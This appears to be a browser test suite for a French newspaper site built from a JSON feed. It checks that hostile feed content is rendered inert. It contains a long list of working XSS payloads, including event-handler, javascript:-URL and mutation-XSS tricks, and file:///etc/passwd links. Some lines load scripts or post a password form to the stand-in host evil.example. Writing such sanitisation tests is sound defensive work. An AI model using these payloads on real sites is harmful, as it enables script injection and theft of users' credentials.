// A feed is written by somebody else, perhaps by an enemy of the newspaper: nothing in it may run, load or mislead.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";

import { host, open } from "./support/browser.mjs";
import { FAILED_LOAD, follow, item, newspaper, plain, textOf, textsOf, visit } from "./support/paper.mjs";
import { FLAG, provoke, trespasses } from "./support/trespass.mjs";

/** HTML that would run, load or break out, if it were let. */
const PAYLOADS = [
  `<script>${FLAG}</script>`,
  `<ScRiPt src="https://evil.example/x.js"></ScRiPt>`,
  `"><script>${FLAG}</script>`,
  `'" onmouseover="${FLAG}" autofocus onfocus="${FLAG}" x="`,
  `<img src=x onerror="${FLAG}">`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${FLAG}">`,
  `<svg onload="${FLAG}"><script>${FLAG}</script></svg>`,
  `<svg><animate onbegin="${FLAG}" attributeName=x dur=1s></svg>`,
  `<svg><style><img src=x onerror="${FLAG}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${FLAG}&gt;">`,
  `<iframe src="javascript:${FLAG.replace("window", "parent")}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=true</script>"></iframe>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  `<object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  `<link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/i.css"; body{display:none}</style>`,
  `<p style="background:url(https://evil.example/b);position:fixed;inset:0">style</p>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name="password" autofocus onfocus="${FLAG}"><button>Valider</button></form>`,
  `<details open ontoggle="${FLAG}"><summary>plus</summary>détails</details>`,
  `<video autoplay onloadstart="${FLAG}"><source onerror="${FLAG}" src="x"></video>`,
  `<audio src=x onerror="${FLAG}" autoplay></audio>`,
  `<body onload="${FLAG}"><marquee onstart="${FLAG}">x</marquee>`,
  `<a href="javascript:${FLAG}" id="bad">cliquez</a>`,
  `<a href="java\tscript:${FLAG}">cliquez</a><a href=" &#1;javascript:${FLAG}">cliquez</a>`,
  `<a href="data:text/html,<script>${FLAG}</script>">cliquez</a><a href="vbscript:x">cliquez</a>`,
  `<template><script>${FLAG}</script></template><noscript><p title="</noscript><img src=x onerror=${FLAG}>"></noscript>`,
  `<!--><img src=x onerror=${FLAG}>-->`,
  `<![CDATA[><img src=x onerror=${FLAG}>]]>`,
  `<textarea><img src=x onerror=${FLAG}></textarea><title><img src=x onerror=${FLAG}></title>`,
  `<input id="main"><img name="getElementById"><form id="shell"><input name="parentNode"></form>`,
  `</div></main><h1 id="main">Autre une</h1><div class="masthead">`,
  `<x-y is="button" onclick="${FLAG}" contenteditable>z</x-y>`,
  `<plaintext>`,
];

async function served(t, feed) {
  const site = await host(t);
  site.override("feed.json", { body: feed });
  const page = await open(t, site, { expect: [FAILED_LOAD] });
  return { site, page };
}

test("HTML in the text of an article neither runs nor loads nor breaks the page", { timeout: 120_000 }, async (t) => {
  const all = PAYLOADS.map((content_html, n) => item(n, { content_html: `<p>avant ${n}</p>${content_html}<p>après</p>`, title: `Essai ${n}` }));
  const { site, page } = await served(t, newspaper(all));
  const paths = [];
  for (const list of ["france/", "france/page/2/"]) {
    await visit(page, site.url + list);
    paths.push(...(await page.locator(".listing .card__title a").evaluateAll((links) => links.map((a) => a.getAttribute("href")))));
  }
  assert.equal(paths.length, PAYLOADS.length);
  for (const [n, path] of paths.entries()) {
    await page.evaluate((path) => navigation.navigate(path).finished, path);
    await provoke(page);
    assert.deepEqual(await trespasses(page), [], PAYLOADS[n]);
    assert.match(await textOf(page.locator(".prose")), new RegExp(`avant ${n}`), PAYLOADS[n]);
    assert.ok(await page.locator(".colophon").isVisible(), PAYLOADS[n]);
  }
});

test("one payload in every text of a feed is shown as text, wherever it stands", { timeout: 120_000 }, async (t) => {
  for (const evil of [`<script>${FLAG}</script>`, `"><img src=x onerror="${FLAG}">`, `</title></textarea><svg/onload=${FLAG}>`, `&lt;img src=x onerror=${FLAG}&gt;`, `{{constructor.constructor('${FLAG}')()}}`]) {
    const bad = item(1, {
      id: evil,
      title: `Titre ${evil}`,
      summary: `Chapeau ${evil}`,
      content_text: `Texte ${evil}`,
      content_html: undefined,
      tags: [`mot ${evil}`],
      authors: [{ name: `Plume ${evil}`, url: `javascript:${FLAG}` }],
      attachments: [{ url: "https://evil.example/a.zip", mime_type: evil, title: `Pièce ${evil}` }],
      language: evil,
      _depeche: { section: [`Rubrique ${evil}`, `Sous ${evil}`], kicker: `Label ${evil}`, source: `Agence ${evil}`, editors: [evil], correction: { text: `Erratum ${evil}` } },
    });
    const { site, page } = await served(t, newspaper([bad, item(2)], { title: `Journal ${evil}`, description: `Sous-titre ${evil}`, language: "fr" }));
    const shown = plain(evil.replaceAll("&lt;", "<").replaceAll("&gt;", ">"));
    await visit(page, site.url);
    assert.deepEqual(await trespasses(page), []);
    assert.equal(plain(await page.title()), `Journal ${shown}`);
    assert.equal(await textOf(page.locator(".masthead__name")), `Journal ${shown}`);
    await follow(page, page.locator(".card__title a", { hasText: "Titre" }).first());
    await provoke(page);
    assert.deepEqual(await trespasses(page), []);
    for (const [selector, word] of [["h1", "Titre"], [".article__standfirst", "Chapeau"], [".article__kicker", "Label"], [".dateline__source", "Source Agence"], [".byline a", "Plume"], [".article__correction", "Correction Erratum"]]) {
      assert.equal(await textOf(page.locator(selector).first()), `${word} ${shown}`, selector);
    }
    // Plain text is never HTML: not even its entities are read.
    assert.equal(await textOf(page.locator(".prose")), plain(`Texte ${evil}`));
    assert.equal(await page.locator(".byline a[href^='javascript']").count(), 0);
    const links = await page.locator(".breadcrumb a, .tags a, .byline a").evaluateAll((all) => all.map((a) => a.getAttribute("href")));
    assert.ok(links.length >= 5);
    for (const path of links) {
      await page.evaluate((path) => location.pathname === path || navigation.navigate(path).finished, path);
      assert.deepEqual(await trespasses(page), [], path);
      assert.notEqual(await textOf(page.locator("h1")), "Page introuvable", path);
    }
  }
});

test("an address in the feed that is no web address becomes no link and no request", async (t) => {
  for (const url of [`javascript:${FLAG}`, "data:text/html,<script>parent.ran=true</script>", "blob:x", "file:///etc/passwd", "vbscript:x", " java\nscript:alert(1)"]) {
    const bad = item(1, { url, external_url: url, image: url, banner_image: url, authors: [{ name: "Plume", url, avatar: url }], attachments: [{ url, mime_type: "audio/mpeg" }], _depeche: { section: "France", translations: [{ language: "en", url }] } });
    const { site, page } = await served(t, newspaper([bad], { home_page_url: url, feed_url: url, icon: url, favicon: url, next_url: url }));
    await visit(page, site.url);
    await follow(page, page.locator(".card__title a").first());
    await provoke(page);
    assert.deepEqual(await trespasses(page), [], url);
    await follow(page, page.locator(".byline a"));
    assert.deepEqual(await trespasses(page), [], url);
  }
});

test("plain text with tags in it is shown as it is written, in paragraphs", async (t) => {
  const content_text = "Le code <b>gras</b> & &amp; <script>alert(1)</script>.\n\nEt 1 < 2 > 0.";
  const { site, page } = await served(t, newspaper([item(1, { content_html: undefined, content_text })]));
  await visit(page, site.url);
  await follow(page, page.locator(".card__title a").first());
  assert.deepEqual(await textsOf(page.locator(".prose p")), ["Le code <b>gras</b> & &amp; <script>alert(1)</script>.", "Et 1 < 2 > 0."]);
  assert.equal(await page.locator(".prose b, .prose script").count(), 0);
});

test("French text gets its no-break spaces, code and addresses keep their own", async (t) => {
  const content_html = `<p>Vraiment ? Oui ! « Bien sûr » ; voir : ceci.</p><pre>a ? b : c;</pre><p><code>x ? y : z</code> et <a href="https://exemple.fr/a?b=c;d:e!">ce lien</a></p>`;
  const { site, page } = await served(t, newspaper([
    item(1, { title: "Qui vient ? « Personne » !", content_html }),
    item(2, { title: "Who comes ? Nobody !", language: "en", content_html: "<p>Really ? Yes !</p>" }),
  ]));
  await visit(page, `${site.url}france/`);
  const french = page.locator(".card__title a", { hasText: "Qui vient" });
  assert.match(await french.textContent(), /^Qui vient[\u00a0\u202f]\? «[\u00a0\u202f]Personne[\u00a0\u202f]»[\u00a0\u202f]!$/);
  assert.equal(await page.locator(".card__title a", { hasText: "Who comes" }).textContent(), "Who comes ? Nobody !");
  assert.doesNotMatch(await french.getAttribute("href"), /%C2%A0|%E2%80%AF/);
  await follow(page, french);
  const first = await page.locator(".prose p").first().textContent();
  assert.match(first, /^Vraiment[\u00a0\u202f]\? Oui[\u00a0\u202f]! «[\u00a0\u202f]Bien sûr[\u00a0\u202f]»[\u00a0\u202f]; voir[\u00a0\u202f]: ceci\.$/);
  assert.equal(await page.locator(".prose pre").textContent(), "a ? b : c;");
  assert.equal(await page.locator(".prose code").last().textContent(), "x ? y : z");
  assert.equal(await page.locator(".prose a").getAttribute("href"), "https://exemple.fr/a?b=c;d:e!");
  await page.goBack();
  await follow(page, page.locator(".card__title a", { hasText: "Who comes" }));
  assert.equal(await page.locator(".prose p").textContent(), "Really ? Yes !");
});

test("links out of the newspaper do not hand over the window", async (t) => {
  const { site, page } = await served(t, newspaper([item(1, { content_html: '<p><a href="https://exemple.fr/" target="_blank">lien</a></p>' })]));
  await visit(page, site.url);
  await follow(page, page.locator(".card__title a").first());
  const link = page.locator(".prose a");
  const rel = (await link.getAttribute("rel")) ?? "";
  assert.match(rel, /noopener|noreferrer/);
});

const corpus = process.env.DEPECHE_CORPUS && JSON.parse(readFileSync(join(process.env.DEPECHE_CORPUS, "xss.json"), "utf8"));
if (corpus) {
  test("no payload of the corpus runs, loads or breaks out", { timeout: 300_000 }, async (t) => {
    const payloads = corpus.map(({ payload }) => payload);
    assert.ok(payloads.length > 50 && payloads.every((one) => typeof one === "string"), `${payloads.length} payloads`);
    const all = payloads.map((content_html, n) => item(n, { content_html, title: `Essai ${n}` }));
    const site = await host(t);
    site.override("feed.json", { body: newspaper(all) });
    const page = await open(t, site, { expect: [FAILED_LOAD, /^request elsewhere/] });
    // Pictures and sound of the publisher may come from anywhere; here nobody is asked, and nothing else may be.
    const bad = [];
    await page.route(({ origin }) => origin !== site.origin, (route) => {
      const type = route.request().resourceType();
      if (!["image", "media"].includes(type)) bad.push(`${type} ${route.request().url()}`);
      return route.abort();
    });
    page.on("dialog", (dialog) => {
      bad.push(`dialog at ${page.url()}`);
      return dialog.dismiss();
    });
    await visit(page, site.url);
    const paths = [];
    const pages = Math.ceil(payloads.length / 30);
    for (let number = 1; number <= pages; number += 1) {
      await page.evaluate((path) => navigation.navigate(path).finished, number === 1 ? "/france/" : `/france/page/${number}/`);
      paths.push(...(await page.locator(".listing .card__title a").evaluateAll((links) => links.map((a) => a.getAttribute("href")))));
    }
    assert.equal(paths.length, payloads.length);
    for (const [n, path] of paths.entries()) {
      await page.evaluate((path) => navigation.navigate(path).finished, path);
      await provoke(page);
      const found = await trespasses(page);
      if (found.length) bad.push({ n, payload: payloads[n].slice(0, 200), found });
    }
    assert.deepEqual(bad, []);
  });
}
